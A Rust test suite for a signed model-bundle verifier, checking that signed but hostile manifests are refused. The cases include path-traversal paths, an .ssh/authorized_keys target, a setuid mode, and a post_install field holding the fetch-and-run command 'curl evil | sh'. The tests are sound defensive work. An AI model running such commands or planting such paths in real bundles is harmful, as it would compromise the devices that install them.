//! Threat: a hostile manifest that is nonetheless signed (a compromised build machine, a
//! careless operator, a newer format an old device misreads): paths that escape the staging
//! area, paths that collide, an ambiguous model, fields this verifier does not understand.
//! Every one is refused while checking the manifest, before any payload byte is written.

use ciborium::Value;
use mint_e2e::*;

fn describe(result: &Result<Verified, BundleError>) -> String {
    match result {
        Ok(_) => "Ok".into(),
        Err(e) => format!("{e:?}"),
    }
}

/// Verifies a bundle signed over `cbor` (one model file's frame as payload) with a trusted key.
fn verify_cbor(cbor: &[u8], payload: &[u8]) -> Result<Verified, BundleError> {
    let k = key();
    let bytes = craft(cbor, &[&k], payload);
    let t = trust(&[&k], 1);
    verify_bytes(&bytes, &policy(&t))
}

/// A valid manifest value with one model file, and its payload.
fn valid() -> (Value, Vec<u8>) {
    let (m, payload) = manifest_with(vec![crafted_file(
        "model.onnx",
        FileRole::Model,
        b"onnx bytes",
    )]);
    (manifest_value(&m), payload)
}

fn verify_files(files: Vec<(FileEntry, Vec<u8>)>) -> Result<Verified, BundleError> {
    let (m, payload) = manifest_with(files);
    verify_cbor(&m.to_cbor().unwrap(), &payload)
}

#[test]
fn the_valid_baseline_passes() {
    let (v, payload) = valid();
    verify_cbor(&cbor(&v), &payload).expect("baseline manifest");
}

#[test]
fn a_newer_format_version_is_unsupported_format() {
    let (mut v, payload) = valid();
    set_field(&mut v, "format", 2.into());
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(
            result,
            Err(BundleError::UnsupportedFormat {
                found: 2,
                supported: 1
            })
        ),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_newer_format_with_unknown_fields_is_still_unsupported_format() {
    // The version is read first: a v2 manifest with fields v1 does not know is reported as a
    // newer format, not as garbage.
    let (mut v, payload) = valid();
    set_field(&mut v, "format", 2.into());
    set_field(&mut v, "encryption", Value::Text("aes-gcm".into()));
    remove_field(&mut v, "files");
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(
            result,
            Err(BundleError::UnsupportedFormat {
                found: 2,
                supported: 1
            })
        ),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_missing_format_is_malformed() {
    let (mut v, payload) = valid();
    remove_field(&mut v, "format");
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason == "missing integer field `format`"),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_format_that_is_not_an_integer_is_malformed() {
    let (mut v, payload) = valid();
    set_field(&mut v, "format", Value::Text("1".into()));
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason == "missing integer field `format`"),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_manifest_that_is_not_a_cbor_map_is_malformed() {
    for (bytes, what) in [
        (cbor(&Value::Array(vec![])), "not a CBOR map"),
        (b"\xff\xff".to_vec(), "not CBOR"),
        (Vec::new(), "not CBOR"),
    ] {
        let result = verify_cbor(&bytes, &[]);
        assert!(
            matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with(what)),
            "{bytes:?}: {}",
            describe(&result)
        );
    }
}

#[test]
fn bytes_after_the_manifest_map_are_malformed() {
    // Signed and measured but never read, and another parser might read them differently:
    // the manifest is exactly one CBOR item.
    let (v, payload) = valid();
    let extra = cbor(&Value::Map(vec![(
        Value::Text("sequence".into()),
        1_000_000u64.into(),
    )]));
    let mut bytes = cbor(&v);
    bytes.extend_from_slice(&extra);
    let result = verify_cbor(&bytes, &payload);
    let want = format!("{} bytes after the manifest's CBOR item", extra.len());
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if *reason == want),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_duplicated_field_is_malformed() {
    // Which `sequence` counts? Different parsers pick different ones: refuse.
    let (mut v, payload) = valid();
    v.as_map_mut()
        .unwrap()
        .push((Value::Text("sequence".into()), 1_000_000u64.into()));
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason == "duplicate field `sequence`"),
        "{}",
        describe(&result)
    );
}

#[test]
fn an_unknown_top_level_field_is_malformed_and_named() {
    let (mut v, payload) = valid();
    set_field(&mut v, "post_install", Value::Text("curl evil | sh".into()));
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with("unknown field `post_install`, expected one of")),
        "{}",
        describe(&result)
    );
}

#[test]
fn an_unknown_field_in_a_file_entry_is_malformed_and_named() {
    let (mut v, payload) = valid();
    let map = v.as_map_mut().unwrap();
    let files = map
        .iter_mut()
        .find(|(k, _)| k.as_text() == Some("files"))
        .map(|(_, v)| v)
        .unwrap();
    let entry = &mut files.as_array_mut().unwrap()[0];
    set_field(entry, "mode", Value::Integer(0o4755.into()));
    let result = verify_cbor(&cbor(&v), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with("unknown field `mode`, expected one of")),
        "{}",
        describe(&result)
    );
}

#[test]
fn paths_that_escape_the_staging_area_are_bad_paths() {
    for (path, why) in [
        ("../evil", "'.' or '..' component (path traversal)"),
        ("/etc/x", "absolute path"),
        ("a/../../b", "'.' or '..' component (path traversal)"),
        ("a\\b", "backslash in path"),
        ("..\\..\\evil", "backslash in path"),
        ("./model.onnx", "'.' or '..' component (path traversal)"),
        ("a//b", "empty path component"),
        ("a/", "empty path component"),
        ("", "empty path"),
        (".ssh/authorized_keys", "hidden component"),
        ("a/b c", "characters outside [A-Za-z0-9._-]"),
        ("C:evil", "characters outside [A-Za-z0-9._-]"),
        ("model\0.onnx", "characters outside [A-Za-z0-9._-]"),
        ("modèle.onnx", "characters outside [A-Za-z0-9._-]"),
    ] {
        let result = verify_files(vec![crafted_file(path, FileRole::Model, b"x")]);
        assert!(
            matches!(&result, Err(BundleError::BadPath { path: p, reason }) if p == path && *reason == why),
            "{path:?}: {}",
            describe(&result)
        );
    }
    let long = "a".repeat(256);
    let result = verify_files(vec![crafted_file(&long, FileRole::Model, b"x")]);
    assert!(
        matches!(&result, Err(BundleError::BadPath { reason, .. }) if *reason == "longer than 255 bytes"),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_traversal_manifest_creates_nothing_outside_staging() {
    let parent = tempdir();
    let staging = parent.path().join("staging");
    std::fs::create_dir(&staging).unwrap();
    let before = tree(parent.path());
    for path in [
        "../evil",
        "../../evil",
        "/tmp/mint-e2e-evil",
        "a/../../evil",
    ] {
        let k = key();
        let (m, payload) = manifest_with(vec![crafted_file(path, FileRole::Model, b"pwned")]);
        let bytes = craft_manifest(&m, &[&k], &payload);
        let t = trust(&[&k], 1);
        let result = verify_into(&bytes, &policy(&t), &staging);
        assert!(
            matches!(&result, Err(BundleError::BadPath { path: p, .. }) if p == path),
            "{path:?}: {}",
            describe(&result)
        );
        assert_eq!(
            tree(parent.path()),
            before,
            "{path:?} changed the parent directory"
        );
    }
    assert!(tree(&staging).is_empty(), "staging: {:?}", tree(&staging));
    assert!(!std::path::Path::new("/tmp/mint-e2e-evil").exists());
}

#[test]
fn the_same_path_twice_is_a_duplicate() {
    let result = verify_files(vec![
        crafted_file("model.onnx", FileRole::Model, b"one"),
        crafted_file("model.onnx", FileRole::Other, b"two"),
    ]);
    assert!(
        matches!(&result, Err(BundleError::DuplicatePath { path }) if path == "model.onnx"),
        "{}",
        describe(&result)
    );
}

#[test]
fn paths_differing_only_in_case_are_duplicates() {
    // On a case-insensitive filesystem (an SD card's FAT) the second would overwrite the first.
    let result = verify_files(vec![
        crafted_file("model.onnx", FileRole::Model, b"one"),
        crafted_file("Model.ONNX", FileRole::Other, b"two"),
    ]);
    assert!(
        matches!(&result, Err(BundleError::DuplicatePath { path }) if path == "Model.ONNX"),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_path_that_is_both_file_and_directory_is_a_duplicate() {
    for order in [["a", "a/b"], ["a/b", "a"]] {
        let result = verify_files(vec![
            crafted_file("model.onnx", FileRole::Model, b"m"),
            crafted_file(order[0], FileRole::Other, b"1"),
            crafted_file(order[1], FileRole::Other, b"2"),
        ]);
        assert!(
            matches!(&result, Err(BundleError::DuplicatePath { path }) if path == "a"),
            "{order:?}: {}",
            describe(&result)
        );
    }
    // Deeper: "x/y" as a file and "x/y/z" under it.
    let result = verify_files(vec![
        crafted_file("x/y/z", FileRole::Model, b"m"),
        crafted_file("x/y", FileRole::Other, b"1"),
    ]);
    assert!(
        matches!(&result, Err(BundleError::DuplicatePath { path }) if path == "x/y"),
        "{}",
        describe(&result)
    );
}

#[test]
fn no_model_file_is_malformed() {
    let result = verify_files(vec![crafted_file("labels.txt", FileRole::Other, b"a")]);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason })
            if reason == "exactly one file must have role `model`, found 0"),
        "{}",
        describe(&result)
    );
    let result = verify_files(vec![]);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason })
            if reason == "exactly one file must have role `model`, found 0"),
        "{}",
        describe(&result)
    );
}

#[test]
fn two_model_files_are_malformed() {
    // Which one would run? Refuse the ambiguity.
    let result = verify_files(vec![
        crafted_file("a.onnx", FileRole::Model, b"a"),
        crafted_file("b.onnx", FileRole::Model, b"b"),
    ]);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason })
            if reason == "exactly one file must have role `model`, found 2"),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_digest_that_is_not_lowercase_hex_is_malformed() {
    let (mut entry, frame) = crafted_file("model.onnx", FileRole::Model, b"m");
    entry.sha256 = entry.sha256.to_uppercase();
    let result = verify_files(vec![(entry, frame)]);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.contains("`sha256` of model.onnx")),
        "{}",
        describe(&result)
    );
}

#[test]
fn a_golden_reference_to_a_non_golden_file_is_malformed() {
    let (mut m, payload) = manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"m")]);
    m.health.golden = Some("model.onnx".into());
    let result = verify_cbor(&m.to_cbor().unwrap(), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.contains("`health.golden`")),
        "{}",
        describe(&result)
    );
}

#[test]
fn an_invalid_model_name_is_malformed() {
    // The name becomes a directory and an MQTT topic level.
    for name in ["../mlp", "", "mlp/x", ".mlp", "mlp+"] {
        let (mut m, payload) =
            manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"m")]);
        m.name = name.into();
        let result = verify_cbor(&m.to_cbor().unwrap(), &payload);
        assert!(
            matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.starts_with("`name` value")),
            "{name:?}: {}",
            describe(&result)
        );
    }
}

#[test]
fn expires_not_after_created_is_malformed() {
    let (mut m, payload) = manifest_with(vec![crafted_file("model.onnx", FileRole::Model, b"m")]);
    m.expires = Some(m.created);
    let result = verify_cbor(&m.to_cbor().unwrap(), &payload);
    assert!(
        matches!(&result, Err(BundleError::MalformedManifest { reason }) if reason.contains("`expires`")),
        "{}",
        describe(&result)
    );
}
